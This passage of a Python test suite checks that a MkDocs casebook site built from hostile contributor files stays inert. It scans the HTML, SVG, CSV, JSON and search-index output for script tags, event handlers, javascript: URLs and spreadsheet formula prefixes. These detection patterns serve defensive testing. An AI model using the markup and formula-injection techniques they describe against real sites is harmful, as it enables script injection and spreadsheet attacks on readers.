        cmd = [sys.executable, "-m", "mkdocs", "build", "-d", str(site)] + (["--strict"] if strict else [])
        b = _run(cmd, project)
        out = b.stdout + b.stderr
        assert b.returncode != 0, out
        assert "Traceback" not in out, out
        assert not site.exists(), f"a failed build left {sorted(p.name for p in site.iterdir())[:10]}"
        for m in errors:
            assert m.group(0) in out, f"the build does not print {m.group(0)!r}"


# -- 3. the accepted files together: built twice, byte-identical, inert everywhere ---------------
def _accepted() -> list[Item]:
    """Valid files and the hostile files validation accepts (decided here, in process, each
    beside the sample cases as in the per-file test)."""
    import tempfile

    from casebook.records.taxonomy import load_taxonomy
    from casebook.records.validate import validate_paths

    tax = load_taxonomy(sitekit.REAL_TAXONOMY)
    out = []
    for it in ITEMS:
        if it.expect == "hostile":
            with tempfile.TemporaryDirectory() as d:
                folder = Path(d) / "cases"
                shutil.copytree(sitekit.SAMPLE / "cases", folder)
                _write(folder, it)
                if not validate_paths([str(folder)], tax)[0].ok:
                    continue
        if it.expect != "invalid":
            out.append(it)
    return out


@pytest.fixture(scope="module")
def accepted_builds(tmp_path_factory):
    accepted = _accepted()
    builds = []
    for label in ("a", "b"):
        base = tmp_path_factory.mktemp(f"accepted-{label}")
        project = sitekit.copy_sample(base)
        for it in accepted:
            _write(project / "cases", it)
        builds.append(sitekit.run_build(project, base / "site").check())
    return accepted, builds


def test_accepted_batch_builds_byte_identically_twice(accepted_builds):
    accepted, (a, b) = accepted_builds
    ta, tb = sitekit.tree_bytes(a.site), sitekit.tree_bytes(b.site)
    assert sorted(ta) == sorted(tb)
    differ = [p for p in ta if ta[p] != tb[p]]
    assert not differ, differ[:20]
    for it in accepted:
        assert f"cases/{it.stem}/index.html" in ta, it.stem


ALLOWED = {"explore/index.html": {"form", "input"}, "outcomes/index.html": {"form", "input"},
           "compare/index.html": {"script"}}


def _tag_shapes(html_text: str) -> set[tuple[str, str]]:
    return {(el.tag, " ".join(sorted(el.classes))) for el in Page(sitekit.article(html_text)).elements}


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_accepted_batch_is_inert_in_every_output(accepted_builds):
    accepted, (build, _) = accepted_builds
    site = build.site
    problems: list[str] = []
    baseline = _tag_shapes(build.read("cases/valid-baseline/index.html"))
    narrative_ok = _tag_shapes(build.read("cases/valid-markdown-everywhere/index.html"))
    for path in sorted(site.rglob("*")):
        rel = path.relative_to(site).as_posix()
        if path.suffix == ".html":
            text = path.read_text(encoding="utf-8")
            page = Page(text)
            # The whole page (theme included): no handler, no script URL, no stray image ...
            problems += [f"{rel}: {p}" for p in unsafe_markup(page, allowed_tags=sitekit.DANGEROUS_TAGS,
                                                              img_prefixes=("../", "/", "charts/", "assets/"))]
            # ... and in the article, which holds case text, no dangerous element at all.
            if '<article class="md-content__inner' in text:
                problems += [f"{rel} (article): {p}" for p in unsafe_markup(
                    Page(sitekit.article(text)), allowed_tags=ALLOWED.get(rel, set()),
                    img_prefixes=("../", "charts/"))]
            problems += [f"{rel}: script {el.attrs}" for el in page.find("script")
                         if el.get("type") not in (None, "application/json") or
                         (el.get("src") and not re.match(r"^(/|(\.\./)*)(assets|search)/", el.get("src")))]
            problems += [f"{rel}: <abbr> from case text" for el in page.find("abbr")
                         if el.get("title") in ("hijacked tooltip", "Not Here Sorry", "trap")]
            problems += [f"{rel}: <details> from case text" for el in page.find("details")
                         if "danger" in el.classes]
            if rel.startswith("cases/") and rel.count("/") == 2 and rel.split("/")[1] in BY_STEM:
                extra = _tag_shapes(text) - baseline - narrative_ok
                problems += [f"{rel}: unexpected element {shape}" for shape in sorted(extra)]
        elif path.suffix == ".svg":
            try:
                root = ET.parse(path).getroot()
            except ET.ParseError as exc:
                problems.append(f"{rel}: not XML: {exc}")
                continue
            for el in root.iter():
                problems += [f"{rel}: <{el.tag}> {k}" for k in el.attrib if k.lower().startswith("on")]
                if el.tag.rsplit("}", 1)[-1] in ("script", "foreignObject"):
                    problems.append(f"{rel}: <{el.tag}>")
                for k, v in el.attrib.items():
                    if k.endswith("href") and not v.startswith(("#", "http://", "https://")):
                        problems.append(f"{rel}: {k}={v!r}")
        elif path.suffix == ".csv":
            raw = path.read_text(encoding="utf-8")
            assert raw.startswith("\ufeff"), rel
            for row in csv.reader(io.StringIO(raw[1:], newline="")):
                problems += [f"{rel}: formula cell {c[:30]!r}" for c in row
                             if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
        elif path.suffix == ".json":
            data = json.loads(path.read_text(encoding="utf-8"))
            problems += [f"{rel}: {u!r}" for u in _urls(data) if not re.match(r"^(https?://|cases/|\.\./|#|$)", u)]
        elif path.suffix == ".xml":
            ET.parse(path)
        elif path.suffix == ".ris":
            for line in path.read_text(encoding="utf-8").split("\r\n")[:-1]:
                if not re.match(r"^[A-Z][A-Z0-9]  - ", line):
                    problems.append(f"{rel}: RIS line {line[:40]!r}")
        elif path.suffix == ".bib":
            text = path.read_text(encoding="utf-8")
            depth = 0
            for ch in re.sub(r"\\[{}]", "", text):
                depth += (ch == "{") - (ch == "}")
                if depth < 0:
                    problems.append(f"{rel}: unbalanced braces")
                    break
            if depth:
                problems.append(f"{rel}: unbalanced braces")
    assert not problems, "\n".join(problems[:40])


def _urls(data) -> list[str]:
    if isinstance(data, dict):
        return [u for k, v in data.items() for u in ([v] if k in ("url", "source_url", "case_url", "href") and
                                                        isinstance(v, str) else _urls(v))]
    if isinstance(data, list):
        return [u for v in data for u in _urls(v)]
    return []


def test_hostile_text_is_shown_as_typed(accepted_builds):
    """Inert is not enough: the reader sees exactly what the contributor wrote."""
    accepted, (build, _) = accepted_builds
    missing = []
    for it in accepted:
        if it.shows is None:
            continue
        text = Page(build.read(f"cases/{it.stem}/index.html")).text()
        shown = " ".join(it.shows.split())
        if shown not in text:
            missing.append(f"{it.stem}: {shown!r}")
    assert not missing, "\n".join(missing)


def test_formula_cells_are_neutralised_not_dropped(accepted_builds):
    """Each formula payload is in its CSV cell with one leading apostrophe, nothing else changed."""
    accepted, (build, _) = accepted_builds
    tables = {"cases": list(csv.DictReader(io.StringIO(build.read("data/cases.csv")))),
              "outcomes": list(csv.DictReader(io.StringIO(build.read("data/outcomes.csv"))))}
    wrong = []
    for slot, homes in CSV_HOME.items():
        stem = f"formula-in-{slot.replace('_', '-')}"
        for table, column in homes:
            key = "id" if table == "cases" else "case_id"
            cells = [r[column] for r in tables[table] if r[key] == stem and r[column]]
            assert cells, (stem, table, column)
            if not cells[0].startswith("'" + FORMULAS[slot]):
                wrong.append(f"{stem}: {table}.csv {column} = {cells[0][:60]!r}")
    assert not wrong, "\n".join(wrong)


# -- 4. a chart that cannot be drawn: the build fails, names the case file, leaves no site ---------
_SITECUSTOMIZE = '''
# Test hook (tests/site/test_adversarial_batch.py): drawing any chart whose data mentions the
# marker fails, as a matplotlib error would; loaded by every interpreter through PYTHONPATH.
import casebook.charts.kinds as _kinds

_render = _kinds.render


def render(kind, data, width):
    if "CHART-FAILS-HERE" in repr(data):
        raise ValueError("simulated drawing failure")
    return _render(kind, data, width)


_kinds.render = render
'''


def test_a_chart_that_cannot_draw_fails_the_build_without_a_site(tmp_path):
    project = sitekit.copy_sample(tmp_path)
    stem = "chart-cannot-draw"
    (project / "cases" / f"{stem}.yaml").write_text(case(stem, measure="Agency spend CHART-FAILS-HERE"),
                                                     encoding="utf-8")
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(_SITECUSTOMIZE, encoding="utf-8")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": os.pathsep.join(
        [str(hook), *filter(None, [os.environ.get("PYTHONPATH")])])}
    for strict, stale in ((True, False), (False, False), (True, True)):
        site = tmp_path / f"site-{strict}-{stale}"
        if stale:  # an earlier build's site: MkDocs empties it first; nothing partial may be left
            (site / "cases").mkdir(parents=True)
            (site / "cases" / "old.html").write_text("old", encoding="utf-8")
        cmd = [sys.executable, "-m", "mkdocs", "build", "-d", str(site)] + (["--strict"] if strict else [])
        b = subprocess.run(cmd, cwd=project, env=env, capture_output=True, text=True, timeout=600)
        out = b.stdout + b.stderr
        assert b.returncode != 0, out
        assert "Traceback" not in out, out
        assert f"cases/{stem}.yaml" in out, out
        left = sorted(p.relative_to(site).as_posix() for p in site.rglob("*")) if site.exists() else []
        assert not left, left[:10]


def test_accepted_batch_is_text_in_the_search_index(accepted_builds):
    """Issue 18: what the search box shows (title, one line, snippet text, filter labels) comes
    from the Pagefind index as plain text; every accepted case is there with its payload as
    typed, and no record's title, line or filter label carries markup the page did not."""
    accepted, (build, _) = accepted_builds
    records = {r["url"]: r for r in build.search_records()}
    problems = []
    for it in accepted:
        record = records.get(f"/cases/{it.stem}/")
        if record is None:
            problems.append(f"{it.stem}: not in the search index")
            continue
        if it.shows and sitekit.squash(it.shows) not in sitekit.squash(
                record["content"] + " " + record["meta"].get("title", "") + " " + record["meta"].get("line", "")):
            problems.append(f"{it.stem}: search record does not hold {it.shows!r} as typed")
    for url, record in records.items():
        labels = [v for values in record["filters"].values() for v in values]
        for text in [record["meta"].get("title", ""), record["meta"].get("line", ""), *labels]:
            if re.search(r"<\s*(script|img|svg|iframe|a|style)\b|\bon\w+\s*=|javascript:", text, re.I):
                problems.append(f"{url}: {text[:80]!r}")
    assert not problems, "\n".join(problems[:40])
